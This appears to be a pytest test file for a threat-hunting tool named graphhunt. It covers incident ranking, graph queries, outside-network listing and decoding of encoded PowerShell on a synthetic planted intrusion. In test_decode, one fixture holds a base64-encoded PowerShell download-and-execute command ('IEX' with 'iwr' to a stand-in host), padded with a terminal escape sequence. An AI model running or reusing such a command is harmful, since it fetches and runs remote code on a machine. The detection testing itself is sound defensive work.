"""`graphhunt incidents`, `networks` and `decode`, and incidents as rows and as properties, on a small loaded case."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import graphhunt as gh
from graphhunt.lab.generator import generate_demo, load_truth
from graphhunt.store.embedded import stop_engine

from .test_commands import data, run


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, list[str]]]:
    """A case with a planted intrusion, and its machines in order."""
    folder: Path = tmp_path_factory.mktemp("case")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GRAPHHUNT_ENGINE_MEMORY_MB", "512")
        patch.setenv("GRAPHHUNT_ENGINE_IDLE", "5")
        generate_demo(folder / "logs", seed=3)
        data(folder / "ws", "load", str(folder / "logs"))
        (chain,) = load_truth(folder / "logs").chains
        yield folder / "ws", [chain.start, *(hop.dst for hop in chain.hops)]
        stop_engine(folder / "ws")


def first(folder: Path, *options: str) -> dict[str, Any]:
    found: dict[str, Any] = data(folder, "incidents", *options)["items"][0]
    return found


def test_the_list(loaded: tuple[Path, list[str]]) -> None:
    folder, machines = loaded
    found = data(folder, "incidents")
    assert {"items", "below", "held_back", "scope", "notes"} <= found.keys()
    assert found["items"][0]["machines"] == machines
    assert found["scope"]["looked_at"]["processes"] > 100
    text = run(folder, "incidents")
    assert found["items"][0]["id"] in text.stdout
    assert "Below the line" in text.stdout
    assert "looked at" in run(folder, "incidents", "--verbose").stderr


def test_one_step_by_step(loaded: tuple[Path, list[str]]) -> None:
    folder, machines = loaded
    told = data(folder, "incidents", first(folder)["id"])
    assert told["machines"] == machines
    assert all(step["evidence"]["ids"] for step in told["steps"])
    assert data(folder, "evidence", told["steps"][0]["evidence"]["ids"][0])["record"]
    assert data(folder, "incidents", told["steps"][-1]["id"])["id"] == told["id"]
    assert "installed" in run(folder, "incidents", told["id"]).stdout


def test_an_id_that_is_none_names_the_nearest(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    known = first(folder)["id"]
    answer = run(folder, "incidents", known[:6])
    assert answer.exit_code == 2
    assert known in answer.stderr


def test_nothing_loaded_is_no_error(tmp_path: Path) -> None:
    answer = run(tmp_path, "incidents")
    assert answer.exit_code == 0
    assert "nothing that incidents are made of is loaded" in answer.stderr


def test_rows_and_properties(loaded: tuple[Path, list[str]]) -> None:
    """Python gives rows; written, every machine of it says so in the graph, as do its processes and logons."""
    folder, machines = loaded
    with gh.open(folder) as hunt:
        rows = hunt.incidents()
        assert rows[0].machines == machines
        assert rows.df["Rank"].tolist() == list(range(1, len(rows) + 1))
        assert rows.evidence()
        hunt.analyze("incidents")
        asked = "MATCH (m:Machine) WHERE m.incident_rank = 1 RETURN m.name AS name, m.incident_id AS id"
        written = hunt.query(asked).rows
        assert sorted(name for name, _ in written) == sorted(machines)
        assert {id_ for _, id_ in written} == {rows[0].id}
        asked = "MATCH (:Machine)-[r:REMOTE_LOGON]->(:Machine) WHERE r.incident_rank = 1 RETURN count(r) AS logons"
        assert hunt.query(asked).rows[0][0] >= len(machines) - 1
        asked = "MATCH (p:Process) WHERE 'encoded_command' IN p.incident_leads RETURN count(p) AS processes"
        assert hunt.query(asked).rows[0][0] == len(machines)


def test_networks(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    found = data(folder, "networks")
    outside = [each["address"] for each in found["outside"]]
    assert outside == first(folder)["outside"]
    assert all(each["reasons"] for each in found["outside"])
    assert {each["kind"] for each in found["networks"]} == {"inner", "platform"}
    assert outside[0] in run(folder, "networks").stdout


def test_a_setting_names_inner_networks(loaded: tuple[Path, list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
    folder, _ = loaded
    monkeypatch.setenv("GRAPHHUNT_INNER_NETWORKS", "192.0.2.0/24, 2001:db8::/32")
    stated = [each["cidr"] for each in data(folder, "networks")["networks"] if each["source"] == "setting"]
    assert stated == ["192.0.2.0/24", "2001:db8::/32"]
    monkeypatch.setenv("GRAPHHUNT_INNER_NETWORKS", "elsewhere")
    assert run(folder, "networks").exit_code == 2


def test_decode(tmp_path: Path) -> None:
    token = base64.b64encode("IEX \x1b]0;a\x07(iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
    line = f"powershell -enc {token}"
    found = data(tmp_path, "decode", line)
    assert found["urls"] == ["http://192.0.2.7/a"]
    assert found["facts"] == ["fetches", "runs"]
    text = run(tmp_path, "decode", line)
    assert "\x1b" not in text.stdout
    assert "http://192.0.2.7/a" in text.stdout
    assert "no encoded command" in run(tmp_path, "decode", "cmd.exe /c dir").stderr
